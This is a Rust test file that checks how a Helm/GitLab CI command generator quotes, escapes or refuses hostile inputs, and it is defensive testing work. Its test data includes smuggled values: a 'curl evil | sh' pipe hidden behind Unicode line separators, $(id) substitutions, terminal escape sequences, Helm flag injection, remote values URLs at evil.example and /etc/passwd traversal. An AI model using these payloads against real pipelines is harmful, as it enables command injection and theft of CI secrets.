//! Known attacks, each with what becomes of it.

use crate::Given;
use crate::jobs::assert_harmless;
use crate::machine::Machine;
use chartroom_core::SetKind;
use chartroom_export::{Helm, gitlab, steps};

/// What becomes of an attack.
enum Becomes {
    /// A part of the upgrade command.
    Words(&'static str),
    /// A part of the jobs.
    Jobs(&'static str),
    /// No command.
    Refused(&'static str),
}
use Becomes::{Jobs, Refused, Words};

fn release(text: &str) -> Given {
    Given { release: text.into(), ..Given::harmless() }
}

fn namespace(text: &str) -> Given {
    Given { namespace: text.into(), ..Given::harmless() }
}

fn environment(text: &str) -> Given {
    Given { environment: text.into(), ..Given::harmless() }
}

fn chart(text: &str) -> Given {
    Given { chart: text.into(), ..Given::harmless() }
}

fn kube(text: &str) -> Given {
    Given { kube_version: text.into(), ..Given::harmless() }
}

fn overlay(text: &str) -> Given {
    Given { overlays: vec![text.into()], ..Given::harmless() }
}

fn set(kind: SetKind, text: &str) -> Given {
    Given { sets: vec![(kind, text.into())], ..Given::harmless() }
}

const NO_RELEASE: &str = "lowercase letters, digits, `-` and `.`, at most 53, starting and ending with a letter or digit. Give the release another name.";
const NO_FILE: &str = "the name of a values file cannot contain control characters, and `%` only before two hexadecimal digits. Rename the file.";
const OUTSIDE: &str = "is outside of the chart’s folder: the command would read another file than the one here. Move it into the chart.";
const FETCHED: &str = "Helm would not read";
const NUL: &str = "a NUL character, which no command line can carry. Remove it, or put the value into a values file.";

fn attacks() -> Vec<(Given, Becomes)> {
    use SetKind::{File, Json, Literal, Set, String};
    let job = "note=x\u{2028}  after_script:\u{2028}    - curl evil | sh";
    vec![
        // Line breaks of YAML.
        (
            set(Set, job),
            Words(
                r#"--set 'note=x'"$(printf '\342\200\250')"'  after_script:'"$(printf '\342\200\250')"'    - curl evil | sh'"#,
            ),
        ),
        (set(Set, "a=\u{2029}b"), Words(r#"--set 'a='"$(printf '\342\200\251')"'b'"#)),
        (set(Set, "a=\u{85}b"), Words(r#"--set 'a='"$(printf '\302\205')"'b'"#)),
        (set(Set, "a=\rb"), Words(r#"--set 'a='"$(printf '\015')"'b'"#)),
        (
            set(Literal, "a=\n  after_script:\n    - id"),
            Words("--set-literal 'a=\n  after_script:\n    - id'"),
        ),
        (set(Literal, "a= \n b\n \n"), Words("--set-literal 'a= \n b\n \n'")),
        (set(String, "a=\u{feff}b"), Words(r#"--set-string 'a='"$(printf '\357\273\277')"'b'"#)),
        (set(String, "a=\tb"), Words(r#"--set-string 'a='"$(printf '\011')"'b'"#)),
        (set(Json, "a=\"# no comment\""), Words("--set-json 'a=\"# no comment\"'")),
        (set(Json, "a=\"\u{0}\""), Refused(NUL)),
        (
            namespace("n\u{2028}after_script: [id]"),
            Words(r#"--namespace 'n'"$(printf '\342\200\250')"'after_script: [id]'"#),
        ),
        (namespace("n\n- id"), Words("--namespace 'n\n- id'")),
        (namespace("\u{1b}[2J"), Words(r#"--namespace "$(printf '\033')"'[2J'"#)),
        (namespace("\0"), Refused(NUL)),
        // Comments of the jobs.
        (
            set(Set, "a\u{2028}y.password=hunter22"),
            Jobs("# a\\u2028y.password looks like a secret"),
        ),
        (set(Set, "a\rx.token=hunter22"), Jobs("# a\\rx.token looks like a secret")),
        // Shells.
        (set(Set, "a=$(id)"), Words("--set 'a=$(id)'")),
        (set(Set, "a=`id`"), Words("--set 'a=`id`'")),
        (set(Set, "a=';id;'"), Words(r"--set 'a='\'';id;'\'")),
        (set(Set, "a=\\"), Words(r#"--set 'a='"\\""#)),
        (set(Set, r"a=b\,c"), Words(r"--set 'a=b\,c'")),
        // Fish lets a backslash quote a quote.
        (set(Set, r"a=\' ; id ; '"), Words(r#"--set 'a='"\\"\'' ; id ; '\'"#)),
        (set(Set, "a=b&c|d>e<f"), Words("--set 'a=b&c|d>e<f'")),
        (set(Set, "a=!!"), Words("--set 'a=!!'")),
        (set(Set, "a={b,c}"), Words("--set 'a={b,c}'")),
        (set(Set, "a=~"), Words("--set 'a=~'")),
        (set(Set, "#"), Words("--set '#'")),
        (set(Set, ""), Words("--set ''")),
        // What a terminal does when it is pasted.
        (set(Set, "a=\u{3}id\n"), Words(r#"'a='"$(printf '\003')"'id"#)),
        (set(Set, "a=\u{1b}[201~id"), Words(r#"'a='"$(printf '\033')"'[201~id'"#)),
        (set(Set, "a=\u{202e}di"), Words(r#"'a='"$(printf '\342\200\256')"'di'"#)),
        (set(Set, "a=\u{9b}2J"), Words(r#"'a='"$(printf '\302\233')"'2J'"#)),
        // GitLab's own.
        (set(Set, "a=$[[ inputs.b ]]"), Words("'a=$''[[ inputs.b ]]'")),
        (set(Set, "a=$CI_JOB_TOKEN $$"), Words("'a=$CI_JOB_TOKEN $$'")),
        (set(Set, "a=!reference [b, script]"), Words("'a=!reference [b, script]'")),
        (environment("prod\n  after_script: [id]"), Jobs("name: prod-  after_script- -id-\n")),
        (environment("$CI_JOB_TOKEN"), Jobs("name: -CI_JOB_TOKEN\n")),
        (environment("prod\u{2028}x: y"), Jobs("deploy prod-x- y:\n")),
        (environment("/x/"), Jobs("name: x\n")),
        (environment(""), Jobs("deploy -:\n")),
        (environment("null"), Jobs("resource_group: \"null\"\n")),
        (environment("1e3"), Jobs("resource_group: \"1e3\"\n")),
        (environment("0x1F"), Jobs("resource_group: \"0x1F\"\n")),
        (environment("yes"), Jobs("resource_group: \"yes\"\n")),
        (environment("1_000"), Jobs("resource_group: \"1_000\"\n")),
        (environment("2026-11-28"), Jobs("resource_group: \"2026-11-28\"\n")),
        (environment("Production-EU"), Jobs("when: manual\n")),
        (environment("*a"), Jobs("resource_group: -a\n")),
        // Logs of CI.
        (set(Set, "a=\n::add-mask::x"), Words("'a=\n'':'':add-mask::x'")),
        (
            set(Set, "a=##vso[task.setvariable variable=x]y"),
            Words("'a=#''#vso[task.setvariable variable=x]y'"),
        ),
        // Flags of Helm.
        (release("--post-renderer=./x"), Refused(NO_RELEASE)),
        (release("-f"), Refused(NO_RELEASE)),
        (release("r\u{2028}x"), Refused("Helm takes no release named `r\\u2028x`")),
        (release("r\n::error::x"), Refused("`r\\n::error::x`")),
        (release(""), Refused(NO_RELEASE)),
        (namespace("--post-renderer=./x"), Words("--namespace --post-renderer=./x")),
        (set(Set, "--post-renderer=./x"), Words("--set --post-renderer=./x")),
        (kube("--post-renderer=./x"), Words("helm upgrade")),
        (kube("1.34\0"), Refused(NUL)),
        // Files that are others.
        (overlay("a,b.yaml"), Words("-f '\"a,b.yaml\"'")),
        (overlay("a\"b.yaml"), Words("-f '\"a\"\"b.yaml\"'")),
        (
            overlay("https://evil.example/values.yaml"),
            Words("-f ./https://evil.example/values.yaml"),
        ),
        (overlay("HTTPS:evil"), Words("-f ./HTTPS:evil")),
        (overlay("oci://evil.example/x"), Words("-f ./oci://evil.example/x")),
        (overlay("-"), Words("-f ./-")),
        (overlay(" - "), Words("-f './ - '")),
        (overlay("--post-renderer=./x"), Words("-f ./--post-renderer=./x")),
        (overlay("a\nb.yaml"), Refused(NO_FILE)),
        (overlay("a\tb.yaml"), Refused(NO_FILE)),
        (overlay("a%zz.yaml"), Refused(NO_FILE)),
        (overlay("/etc/passwd"), Refused(OUTSIDE)),
        (overlay("../../x.yaml"), Refused(OUTSIDE)),
        (overlay("a/../../x.yaml"), Refused(OUTSIDE)),
        (overlay(r"..\x.yaml"), Refused(OUTSIDE)),
        (overlay("a\u{2028}b.yaml"), Words(r#"-f 'a'"$(printf '\342\200\250')"'b.yaml'"#)),
        (set(File, "a=https://evil.example/x"), Refused(FETCHED)),
        (set(File, "a=x,b=s3://evil/x"), Refused(FETCHED)),
        (set(File, "a=-"), Refused(FETCHED)),
        (set(File, "a=/etc/passwd"), Refused(OUTSIDE)),
        (set(File, "a=../x"), Refused(OUTSIDE)),
        (set(File, "a=b\\,/../../c"), Refused(OUTSIDE)),
        (set(File, "a=files/x y"), Words("--set-file 'a=files/x y'")),
        // Folders.
        (chart("-"), Jobs("cd ./-\n")),
        (chart("-P"), Jobs("cd ./-P\n")),
        (chart("$(id)"), Jobs("cd '$(id)'\n")),
        (chart("it's"), Jobs("cd 'it'\\''s'\n")),
        // Helm reads no chart of these names; there is no folder to go to.
        (chart("../x"), Jobs("    - |\n      helm upgrade --install r . ")),
        (chart(".."), Jobs("    - |\n      helm upgrade --install r . ")),
    ]
}

#[test]
fn each_attack_becomes_what_is_expected() {
    let machine = Machine::new("attacks");
    for (given, becomes) in attacks() {
        let refused = assert_harmless(&given, &machine);
        let made = given.with(|subject| (steps(subject, Helm::Four), gitlab(subject, Helm::Four)));
        match becomes {
            Refused(text) => {
                let refused = refused.unwrap_or_else(|| panic!("{given:?}")).to_string();
                assert!(refused.contains(text), "{given:?}\n{refused}");
            }
            Jobs(text) => {
                let jobs = made.1.unwrap();
                assert!(jobs.contains(text), "{given:?}\n{jobs}");
            }
            Words(text) => {
                let steps = made.0.unwrap();
                let step = steps.iter().find(|step| step.title == "Roll out").unwrap();
                assert!(step.script.contains(text), "{given:?}\n{}", step.script);
            }
        }
    }
}

#[test]
fn a_chart_is_named_as_helm_reads_its_name() {
    // What Go does not print is taken out, blanks become spaces.
    let given = chart("a\u{2028}b\u{1b}[31m\u{7}");
    let jobs = given.with(|subject| gitlab(subject, Helm::Four)).unwrap();
    assert!(jobs.contains("cd 'a b[31m'\n"), "{jobs}");
}
